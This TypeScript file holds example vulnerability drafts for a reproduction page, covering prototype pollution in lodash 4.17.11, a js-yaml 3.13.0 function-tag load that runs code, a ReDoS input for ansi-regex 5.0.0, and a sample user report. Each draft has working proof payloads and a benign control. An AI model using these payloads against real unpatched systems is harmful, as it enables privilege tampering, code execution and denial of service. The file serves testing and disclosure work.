import type { Draft } from './draft.ts'

export type Example = { label: string; draft: Draft }

/** Published flaws, fixed long ago, with proofs written for this page. */
export const EXAMPLES: readonly Example[] = [
  {
    label: 'Prototype pollution in lodash 4.17.11 (defaultsDeep)',
    draft: {
      name: 'lodash',
      version: '4.17.11',
      fixed: '4.17.12',
      oracle: 'prototype-pollution',
      weakness: 'CWE-1321',
      proof: `const _ = require('lodash')

// Settings from a stranger, merged into our own.
const settings = JSON.parse('{"constructor": {"prototype": {"isAdmin": true}}}')
_.defaultsDeep({}, settings)
`,
      benign: `const _ = require('lodash')

_.defaultsDeep({ colour: 'blue' }, JSON.parse('{"size": {"width": 3}}'))
`,
    },
  },
  {
    label: 'Code execution in js-yaml 3.13.0 (load)',
    draft: {
      name: 'js-yaml',
      version: '3.13.0',
      fixed: '3.13.1',
      oracle: 'marker',
      weakness: 'CWE-94',
      proof: `const yaml = require('js-yaml')

// A document that carries a function; reading it must not call the function.
const code = 'globalThis["' + tocsin.marker + '"]()'
yaml.load('{ toString: !!js/function \\'function () { ' + code + '; return "x" }\\' }: 1')
`,
      benign: `const yaml = require('js-yaml')

yaml.load('{ name: rural hospital, beds: 25 }')
`,
    },
  },
  {
    label: 'Slow regular expression in ansi-regex 5.0.0',
    draft: {
      name: 'ansi-regex',
      version: '5.0.0',
      fixed: '5.0.1',
      oracle: 'cpu-time',
      weakness: 'CWE-1333',
      proof: `const ansiRegex = require('ansi-regex')

// A line of a log file, long and crafted.
ansiRegex().test('\\u001B[' + ';'.repeat(60000))
`,
      benign: `const ansiRegex = require('ansi-regex')

// As long, but ordinary.
ansiRegex().test('\\u001B[31m' + 'x'.repeat(60000))
`,
    },
  },
]

/** A report as people write them, for the free-text half of the page. */
export const EXAMPLE_REPORT = `hey, so i think lodash is broken?? we are on lodash 4.17.11

when i pass user json to _.defaultsDeep it ends up on EVERY object (prototype pollution i guess).

\`\`\`js
const _ = require('lodash')
_.defaultsDeep({}, JSON.parse('{"constructor": {"prototype": {"oops": 1}}}'))
\`\`\`

looks fixed in 4.17.12
`
